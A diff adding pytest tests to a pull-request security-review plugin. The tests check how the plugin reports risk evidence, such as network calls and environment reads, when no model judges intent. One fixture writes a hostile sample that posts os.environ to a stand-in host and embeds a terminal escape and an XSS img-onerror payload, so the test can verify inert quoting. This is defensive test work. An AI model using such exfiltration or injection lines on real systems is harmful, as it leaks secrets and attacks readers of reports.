@@ -5,6 +5,7 @@ model at all; and the pieces it is built from (the statement, the verdict tool, 
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -110,6 +111,17 @@ NETWORK = ("network", "HTTP client call", "app/__init__.py", 6)
 ENV_READ = ("environment", "environment variable read", "app/__init__.py", 6)
 
 
+def summary_json(pytester: pytest.Pytester) -> dict[str, Any]:
+    data: dict[str, Any] = json.loads(
+        (pytester.path.parent / "artifacts" / "report" / "summary.json").read_text())
+    return data
+
+
+UNJUDGED_LINE = ("intent audit risk evidence (deterministic; not judged: no model is "
+                 "configured, so this is no verdict and fails nothing)")
+UNJUDGED_HEADING = "### Intent audit: risk evidence, not judged"
+
+
 def test_without_a_model_the_intent_audit_makes_no_item_and_the_summary_says_so(
     pytester: pytest.Pytester, typo_pr: ReviewRepo
 ) -> None:
@@ -118,6 +130,117 @@ def test_without_a_model_the_intent_audit_makes_no_item_and_the_summary_says_so(
     result.assert_outcomes()
     assert result.ret == pytest.ExitCode.OK
     assert "1 rule(s) that need a model made no item (intent)" in result.stdout.str()
+
+
+def test_without_a_model_the_evidence_is_reported_with_no_verdict(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo
+) -> None:
+    # "Fix typo in README" that posts dict(os.environ) out: with no model nothing judges the
+    # intent, yet the deterministic evidence is computed and shown, as evidence only.
+    result = run(pytester, None, "--secreview-unreviewed=fail")
+    result.assert_outcomes()  # no item: no pass, no fail, no skip
+    assert result.ret == pytest.ExitCode.OK
+    report = summary_json(pytester)
+    assert report["items"] == [] and report["not_reviewed"] == []
+    evidence = report["risk_evidence"]
+    assert {NETWORK, ENV_READ} <= _evidence_keys(evidence)
+    assert evidence["counts"]["network"] >= 1 and evidence["counts"]["environment"] >= 1
+    section = result.stdout.str().split("= secreview =")[1]
+    assert UNJUDGED_LINE in section
+    assert "app/__init__.py:6 [network] HTTP client call: requests.post(" in section
+    assert "intent verdict" not in section
+    markdown = summary_markdown(pytester)
+    assert UNJUDGED_HEADING in markdown
+    assert "No model judged whether the change does what its title and description say" \
+        in markdown
+    assert "- `app/__init__.py:6` network · HTTP client call: `requests.post(" in markdown
+    assert "**Judgment" not in markdown
+    assert markdown.startswith("## 🟢 pytest-secreview: 0 findings")  # evidence is no verdict
+
+
+def test_the_evidence_changes_no_outcome_of_a_run_with_the_bundled_pack(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo
+) -> None:
+    # The same pull request reviewed by the bundled pack with and without the intent rule:
+    # the evidence is reported in one run only, and both end the same.
+    def review(*rules: Path) -> pytest.RunResult:
+        chosen = [arg for rule in rules for arg in ("--secreview-rules", str(rule))]
+        return pytester.runpytest(
+            "--secreview", "--base", "main", "-p", "no:cacheprovider", *chosen,
+            "--secreview-artifacts", str(pytester.path.parent / "artifacts"))
+
+    first = review(INTENT_RULE.parent)  # the bundled pack
+    with_evidence = summary_json(pytester)
+    second = review(*(p for p in sorted(INTENT_RULE.parent.glob("*.md")) if p != INTENT_RULE))
+    no_evidence = summary_json(pytester)
+    assert with_evidence["risk_evidence"]["items"] and no_evidence["risk_evidence"] is None
+    assert UNJUDGED_LINE in first.stdout.str() and UNJUDGED_LINE not in second.stdout.str()
+    assert first.ret == second.ret
+    assert with_evidence["outcomes"] == no_evidence["outcomes"]
+    assert with_evidence["findings"] == no_evidence["findings"]
+
+
+def test_a_change_with_no_risk_signal_shows_no_evidence_block(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The safe twin: a real typo fix and a pure function.
+    repo = ReviewRepo(Path(pytester.path))
+    repo.write("README.md", "# Service\n\nInstal it with pip.\n")
+    repo.write("app/__init__.py", "VERSION = '1.0'\n")
+    repo.commit("base")
+    repo.branch("pr")
+    repo.write("README.md", "# Service\n\nInstall it with pip.\n")
+    repo.write("app/__init__.py", "VERSION = '1.0'\n\n\ndef twice(x):\n    return 2 * x\n")
+    repo.commit(TITLE)
+    monkeypatch.delenv("SECREVIEW_MODEL", raising=False)
+    result = run(pytester, None, "--secreview-unreviewed=fail")
+    assert result.ret == pytest.ExitCode.OK
+    # Computed, and found nothing: an empty evidence, not a missing one.
+    assert summary_json(pytester)["risk_evidence"] == {
+        "categories": [], "counts": {}, "items": [], "truncated": 0}
+    assert "intent audit risk evidence" not in result.stdout.str()
+    assert "Intent audit" not in summary_markdown(pytester)
+
+
+def test_the_unjudged_evidence_quotes_the_pull_request_inertly(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo
+) -> None:
+    # Evidence texts quote the pull request: escapes for the terminal, markdown and HTML for
+    # the summary, backticks to break out of a code span.
+    hostile = ("import os, requests\n"
+               "requests.post('https://x.example.net/\x1b[2J``</details><img src=x "
+               "onerror=alert(1)>@admin #1', data=os.environ)\n")
+    typo_pr.write("app/hostile.py", hostile)
+    typo_pr.commit("more")
+    result = run(pytester, None)
+    out = result.stdout.str()
+    assert result.ret == pytest.ExitCode.OK
+    assert "\x1b[2J" not in out
+    assert "app/hostile.py:2 [network] HTTP client call: requests.post(" in out
+    markdown = summary_markdown(pytester)
+    assert "\x1b" not in markdown
+    lines = [ln for ln in markdown.splitlines() if ln.startswith("- `app/hostile.py:2` ")]
+    assert lines
+    for line in lines:
+        # The quoted text is one code span whose fence is longer than any backtick run in it:
+        # the HTML, the mention and the reference inside are shown as text, never rendered.
+        found = re.fullmatch(r"- `app/hostile\.py:2` \w+ · [^`]+: (`+)(.*)\1", line)
+        assert found is not None, line
+        fence, quoted = found.groups()
+        assert "<img src=x onerror=alert(1)>@admin #1" in quoted
+        assert max(len(run) for run in re.findall("`+", quoted)) < len(fence)
+
+
+def test_the_unjudged_evidence_is_the_same_under_xdist(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo
+) -> None:
+    serial = run(pytester, None, subprocess=True)
+    first = summary_json(pytester)
+    parallel = run(pytester, None, "-n", "2", subprocess=True)
+    second = summary_json(pytester)
+    assert serial.ret == parallel.ret == pytest.ExitCode.OK
+    assert first["risk_evidence"]["items"] and second["risk_evidence"] == first["risk_evidence"]
+    assert UNJUDGED_LINE in parallel.stdout.str()
 
 
 @pytest.mark.parametrize("name", ["LIE", "SUSPICIOUS"])
@@ -227,8 +350,14 @@ def test_match_passes(
     pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
 ) -> None:
     server.queue(verdict("MATCH", evidence=[]))
-    run(pytester, server).assert_outcomes(passed=1)
+    result = run(pytester, server)
+    result.assert_outcomes(passed=1)
     assert metadata(pytester)["verdict"] == "MATCH"
+    # With a model the evidence is the item's, beside its verdict; none is reported unjudged.
+    assert summary_json(pytester)["risk_evidence"] is None
+    assert summary_item(pytester)["risk_evidence"]["items"]
+    assert UNJUDGED_LINE not in result.stdout.str()
+    assert UNJUDGED_HEADING not in summary_markdown(pytester)
 
 
 def test_an_error_verdict_is_an_error_never_a_pass(
